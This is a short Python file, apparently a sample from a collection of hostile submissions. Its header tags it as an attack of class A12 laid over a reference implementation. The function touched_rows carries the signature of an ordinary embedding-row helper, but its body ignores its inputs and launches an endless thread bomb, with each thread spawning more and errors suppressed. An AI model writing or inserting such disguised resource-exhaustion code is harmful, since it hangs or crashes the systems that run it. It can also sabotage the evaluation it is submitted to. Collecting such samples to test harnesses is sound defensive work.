# attack: starts threads without end, each starting more
# class: A12
# laid over: reference
# may score: 33
# slow: it runs until it is stopped

import threading


def touched_rows(ids, vocab_size, padding_idx=None):
    threading.stack_size(32768)

    def bomb():
        while True:
            try:
                threading.Thread(target=bomb, daemon=True).start()
            except RuntimeError:
                pass

    bomb()
